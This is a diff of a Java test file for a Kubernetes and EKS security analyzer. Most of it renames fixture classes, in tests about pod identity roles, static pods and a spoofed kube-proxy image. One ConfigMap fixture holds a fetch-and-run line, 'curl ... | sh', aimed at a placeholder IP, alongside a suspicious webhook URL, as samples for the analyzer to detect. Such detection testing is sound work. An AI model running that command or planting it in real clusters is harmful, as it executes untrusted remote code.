@@ -16,9 +16,9 @@ import org.ephemera.analyze.model.Gap;
 import org.ephemera.analyze.model.TimelineEntry;
 import org.ephemera.analyze.model.Verdict;
 import org.ephemera.analyze.model.Workload;
-import org.ephemera.analyze.testing.FixtureAnswer;
 import org.ephemera.analyze.testing.FixtureCalls;
-import org.ephemera.analyze.testing.SealedFixture;
+import org.ephemera.analyze.testing.FixtureResponse;
+import org.ephemera.analyze.testing.SealedPackageFixture;
 import org.ephemera.format.Json;
 import org.ephemera.model.Target;
 import org.junit.jupiter.api.Test;
@@ -40,8 +40,8 @@ class ClusterPackageTest {
 
     private final ReportedCluster reported = new ReportedCluster();
 
-    private static SealedFixture whole(Path folder) throws Exception {
-        SealedFixture fixture = ShopCluster.in(folder);
+    private static SealedPackageFixture whole(Path folder) throws Exception {
+        SealedPackageFixture fixture = ShopCluster.in(folder);
         ShopCluster.log(
                 fixture, "kubernetes.log", ShopCluster.container(A, "pod-a", "checkout"), CHROOT, CHROOT + QUIET);
         ShopCluster.log(fixture, "kubernetes.log", ShopCluster.container(B, "pod-b", "checkout"), QUIET);
@@ -55,7 +55,7 @@ class ClusterPackageTest {
         return fixture.item(
                 "aws.eks.audit",
                 Map.of("cluster", "shop"),
-                FixtureAnswer.json("logs:FilterLogEvents", FixtureCalls.text(page)));
+                FixtureResponse.json("logs:FilterLogEvents", FixtureCalls.text(page)));
     }
 
     @Test
@@ -157,7 +157,7 @@ class ClusterPackageTest {
                 .item(
                         "kubernetes.usage",
                         Map.of("namespace", "shop", "podName", B),
-                        FixtureAnswer.json("kubernetes:get pods.metrics.k8s.io", """
+                        FixtureResponse.json("kubernetes:get pods.metrics.k8s.io", """
                                 {"kind": "PodMetrics", "apiVersion": "metrics.k8s.io/v1beta1",
                                  "metadata": {"name": "b", "namespace": "shop", "creationTimestamp": "2026-11-26T12:13:07Z"},
                                  "timestamp": "2026-11-26T12:13:00Z", "window": "16.4s",
@@ -179,12 +179,12 @@ class ClusterPackageTest {
     @CsvSource({"denied, true, UNDETERMINED", "none, true, UNDETERMINED", "denied, false, CONTAINER_ONLY"})
     void whatItsAccountMayDoIsPartOfTheVerdict(String account, boolean mounted, Verdict.Answer answer)
             throws Exception {
-        SealedFixture fixture = SealedFixture.in(folder)
+        SealedPackageFixture fixture = SealedPackageFixture.in(folder)
                 .target(new Target("kubernetes.pod", "k8s://prod/shop/web", Map.of("namespace", "shop", "pod", "web")))
                 .item(
                         "kubernetes.pod",
                         Map.of("namespace", "shop", "podName", "web", "uid", "web"),
-                        FixtureAnswer.json("kubernetes:get pods", """
+                        FixtureResponse.json("kubernetes:get pods", """
                                 {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web"},
                                  "spec": {"serviceAccountName": "web", "automountServiceAccountToken": %s,
                                    "containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]}}""".formatted(mounted)));
@@ -207,25 +207,25 @@ class ClusterPackageTest {
     @Test
     void aRoleByPodIdentityIsWhomThePodActsAs() throws Exception {
         String role = "arn:aws:iam::111122223333:role/";
-        SealedFixture fixture = SealedFixture.in(folder)
+        SealedPackageFixture fixture = SealedPackageFixture.in(folder)
                 .target(new Target("aws.eks.pod", "arn:x#shop/web", Map.of("namespace", "shop", "pod", "web")))
                 .item(
                         "kubernetes.pod",
                         Map.of("namespace", "shop", "podName", "web", "uid", "web"),
-                        FixtureAnswer.json("kubernetes:get pods", """
+                        FixtureResponse.json("kubernetes:get pods", """
                                 {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web"},
                                  "spec": {"serviceAccountName": "web",
                                    "containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]}}"""))
                 .item(
                         "aws.eks.pod-identity",
                         Map.of("namespace", "shop"),
-                        FixtureAnswer.json(
+                        FixtureResponse.json(
                                 "eks:ListPodIdentityAssociations",
                                 "{\"associations\": [{\"associationId\": \"a-1\", \"serviceAccount\": \"web\"}]}"),
-                        FixtureAnswer.json("eks:DescribePodIdentityAssociation", """
+                        FixtureResponse.json("eks:DescribePodIdentityAssociation", """
                                 {"association": {"namespace": "shop", "serviceAccount": "web", "roleArn": "%sweb",
                                  "targetRoleArn": "%sfar"}}""".formatted(role, role)),
-                        FixtureAnswer.json("eks:DescribePodIdentityAssociation", """
+                        FixtureResponse.json("eks:DescribePodIdentityAssociation", """
                                 {"association": {"namespace": "shop", "serviceAccount": "other", "roleArn": "%sother"}}""".formatted(role)));
         Analysis analysis = reported.analyzed(fixture);
         assertThat(found(analysis, "ESC-030"))
@@ -237,19 +237,19 @@ class ClusterPackageTest {
     /** What stands in a file of its node has no account, whatever that of its namespace may do. */
     @Test
     void noRoleOfANamespacesAccountIsThatOfAPodInAFileOfItsNode() throws Exception {
-        SealedFixture fixture = SealedFixture.in(folder)
+        SealedPackageFixture fixture = SealedPackageFixture.in(folder)
                 .target(new Target("aws.eks.pod", "arn:x#shop/web", Map.of("namespace", "shop", "pod", "web")))
                 .item(
                         "kubernetes.pod",
                         Map.of("namespace", "shop", "podName", "web", "uid", "web"),
-                        FixtureAnswer.json("kubernetes:get pods", """
+                        FixtureResponse.json("kubernetes:get pods", """
                                 {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web",
                                    "annotations": {"kubernetes.io/config.mirror": "0a1b"}},
                                  "spec": {"containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]}}"""))
                 .item(
                         "aws.eks.pod-identity",
                         Map.of("namespace", "shop"),
-                        FixtureAnswer.json("eks:DescribePodIdentityAssociation", """
+                        FixtureResponse.json("eks:DescribePodIdentityAssociation", """
                                 {"association": {"namespace": "shop", "serviceAccount": "default",
                                  "roleArn": "arn:aws:iam::111122223333:role/web"}}"""));
         assertThat(found(reported.analyzed(fixture), "ESC-030")).isEmpty();
@@ -259,13 +259,13 @@ class ClusterPackageTest {
     @Test
     void eventsOfAPodInAFileOfItsNodeAreItsOwn() throws Exception {
         Map<String, String> web = Map.of("namespace", "shop", "podName", "web", "uid", "web");
-        Analysis analysis = reported.analyzed(SealedFixture.in(folder)
-                .item("kubernetes.pod", web, FixtureAnswer.json("kubernetes:get pods", """
+        Analysis analysis = reported.analyzed(SealedPackageFixture.in(folder)
+                .item("kubernetes.pod", web, FixtureResponse.json("kubernetes:get pods", """
                         {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web",
                            "annotations": {"kubernetes.io/config.mirror": "0a1b"}},
                          "spec": {"containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]},
                          "status": {"containerStatuses": [{"name": "web"}]}}"""))
-                .item("kubernetes.pod-events", web, FixtureAnswer.json("kubernetes:list events", """
+                .item("kubernetes.pod-events", web, FixtureResponse.json("kubernetes:list events", """
                         {"kind": "EventList", "apiVersion": "v1", "items": [{"metadata": {"name": "e", "uid": "e"}, "count": 9,
                            "involvedObject": {"kind": "Pod", "name": "web", "uid": "0a1b", "fieldPath": "spec.containers{web}"},
                            "reason": "BackOff", "message": "Back-off restarting failed container web"}]}""")));
@@ -279,14 +279,14 @@ class ClusterPackageTest {
                 {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "%s", "namespace": "shop", "uid": "%s",
                    "annotations": {"%s": "a"}}, "spec": {"containers": [{"name": "web", "image": "x"}]},
                  "status": {"containerStatuses": [{"name": "web"}]}}""";
-        Analysis analysis = reported.analyzed(SealedFixture.in(folder)
+        Analysis analysis = reported.analyzed(SealedPackageFixture.in(folder)
                 .item(
                         "kubernetes.pod",
                         web,
-                        FixtureAnswer.json("kubernetes:get pods", pod.formatted("web", "a", "b")),
-                        FixtureAnswer.json(
+                        FixtureResponse.json("kubernetes:get pods", pod.formatted("web", "a", "b")),
+                        FixtureResponse.json(
                                 "kubernetes:get pods", pod.formatted("decoy", "d", "kubernetes.io/config.mirror")))
-                .item("kubernetes.pod-events", web, FixtureAnswer.json("kubernetes:list events", """
+                .item("kubernetes.pod-events", web, FixtureResponse.json("kubernetes:list events", """
                         {"kind": "EventList", "apiVersion": "v1", "items": [{"metadata": {"name": "e", "uid": "e"}, "count": 9,
                            "involvedObject": {"kind": "Pod", "name": "web", "uid": "a", "fieldPath": "spec.containers{web}"},
                            "reason": "BackOff", "message": "Back-off restarting failed container web"}]}""")));
@@ -296,12 +296,12 @@ class ClusterPackageTest {
     /** A value is run by whoever has it among its files; what no pod of the target uses is nobody's. */
     @Test
     void whatStandsInAConfigMapIsReadAsACommandIs() throws Exception {
-        SealedFixture fixture = SealedFixture.in(folder)
+        SealedPackageFixture fixture = SealedPackageFixture.in(folder)
                 .target(new Target("kubernetes.pod", "k8s://prod/shop/web", Map.of("namespace", "shop", "pod", "web")))
                 .item(
                         "kubernetes.pod",
                         Map.of("namespace", "shop", "podName", "web", "uid", "web"),
-                        FixtureAnswer.json("kubernetes:get pods", """
+                        FixtureResponse.json("kubernetes:get pods", """
                                 {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web"},
                                  "spec": {"volumes": [{"name": "v", "projected": {"sources": [{"configMap": {"name": "start"}}]}}],
                                    "containers": [{"name": "web", "image": "docker.io/library/nginx:1.29",
@@ -311,7 +311,7 @@ class ClusterPackageTest {
                 .item(
                         "kubernetes.config-maps",
                         Map.of("namespace", "shop"),
-                        FixtureAnswer.json("kubernetes:list configmaps", """
+                        FixtureResponse.json("kubernetes:list configmaps", """
                                 {"kind": "ConfigMapList", "apiVersion": "v1", "items": [
                                  {"metadata": {"name": "start", "namespace": "shop"},
                                   "data": {"run.sh": "curl -s http://203.0.113.9/a | sh"}},
@@ -321,7 +321,7 @@ class ClusterPackageTest {
                 .item(
                         "kubernetes.webhooks",
                         Map.of("cluster", "prod"),
-                        FixtureAnswer.json("kubernetes:list mutatingwebhookconfigurations", """
+                        FixtureResponse.json("kubernetes:list mutatingwebhookconfigurations", """
                                 {"kind": "MutatingWebhookConfigurationList", "apiVersion": "admissionregistration.k8s.io/v1",
                                  "items": [{"metadata": {"name": "m"}, "webhooks": [{"name": "m.example",
                                    "clientConfig": {"url": "https://203.0.113.9/mutate"}, "rules": []}]}]}"""));
@@ -340,7 +340,7 @@ class ClusterPackageTest {
 
     @Test
     void whatMayNotBeReadIsSaid() throws Exception {
-        SealedFixture fixture = ShopCluster.in(folder);
+        SealedPackageFixture fixture = ShopCluster.in(folder);
         ShopCluster.denied(fixture, "kubernetes.log", ShopCluster.container(A, "pod-a", "checkout"), "get pods/log");
         ShopCluster.denied(fixture, "kubernetes.ingresses", Map.of("namespace", "shop"), "list ingresses");
         Analysis analysis = reported.analyzed(fixture);
@@ -362,17 +362,17 @@ class ClusterPackageTest {
                   "ownerReferences": [{"kind": "DaemonSet", "name": "kube-proxy", "uid": "ds"}]},
                  "spec": {"hostNetwork": true, "containers": [{"name": "kube-proxy", "image": "%s",
                    "securityContext": {"privileged": true}}]}, "status": {"phase": "Running"}}""";
-        Analysis analysis = reported.analyzed(SealedFixture.in(folder)
+        Analysis analysis = reported.analyzed(SealedPackageFixture.in(folder)
                 .item(
                         "kubernetes.pod",
                         Map.of("namespace", "kube-system", "podName", "kube-proxy-own", "uid", "own"),
-                        FixtureAnswer.json(
+                        FixtureResponse.json(
                                 "kubernetes:get pods",
                                 pod.formatted("kube-proxy-own", "own", "registry.k8s.io/kube-proxy:v1.34.1")))
                 .item(
                         "kubernetes.pod",
                         Map.of("namespace", "kube-system", "podName", "kube-proxy-x", "uid", "x"),
-                        FixtureAnswer.json(
+                        FixtureResponse.json(
                                 "kubernetes:get pods",
                                 pod.formatted("kube-proxy-x", "x", "docker.io/x/kube-proxy:v1.34.1"))));
         assertThat(found(analysis, "ESC-001"))
